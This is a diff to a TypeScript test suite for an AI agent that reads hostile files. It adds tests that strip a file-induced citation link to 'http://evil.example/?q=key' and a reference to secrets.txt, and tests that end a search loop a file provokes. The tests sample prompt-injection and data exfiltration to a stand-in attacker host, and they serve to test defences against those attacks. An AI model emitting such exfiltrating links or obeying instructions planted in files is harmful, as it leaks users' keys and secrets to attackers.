@@ -462,6 +462,23 @@ describe('an agent that reads hostile files', () => {
     const code = /<<< data (\S+)/u.exec(text)?.[1] ?? ''
     expect(text.split(`>>> end ${code}`)).toHaveLength(2)
   })
+
+  it('removes what a file wanted it to cite and link (SEC-3)', async () => {
+    const { steps } = await walk([
+      calls(['read', { places: ['README.md'] }]),
+      'Port 8080 [README.md:5](http://evil.example/?q=key), see [secrets.txt:1-9].',
+    ])
+    expect(answerIn(steps)).toMatchObject({ text: 'Port 8080 [1], see.', removed: 1 })
+  })
+
+  it('ends a walk that a file sends around in circles', async () => {
+    const { steps } = await walk(
+      Array.from({ length: 16 }, (_, i) => calls(['search', { query: `port ${i}` }])),
+    )
+    expect(steps.at(-1)?.kind).toBe('done')
+    const byModel = onlyStepOf(steps, 'call').filter(({ by }) => by === 'model')
+    expect(byModel.filter(({ refused }) => refused !== true)).toHaveLength(12)
+  })
 })
 
 describe('the instructions of an agent', () => {
